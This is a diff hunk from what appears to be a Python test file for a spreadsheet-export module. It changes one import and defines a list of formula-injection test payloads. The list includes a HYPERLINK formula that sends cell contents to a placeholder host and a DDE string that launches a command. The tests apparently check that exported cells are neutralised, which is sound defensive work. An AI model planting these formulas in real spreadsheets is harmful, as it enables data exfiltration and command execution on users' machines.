@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from test_programs_cycles import enroll, generate, make_setup
 
 from canlian.platform.exports import Sheet, csv_bytes, safe_cell, xlsx_bytes
-from canlian.programs import cycles
+from canlian.programs.cycles import actions as cycles
 from canlian.programs.models import Enrollment
 
 PAYLOADS = ["=HYPERLINK(\"http://x/?\"&C2,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
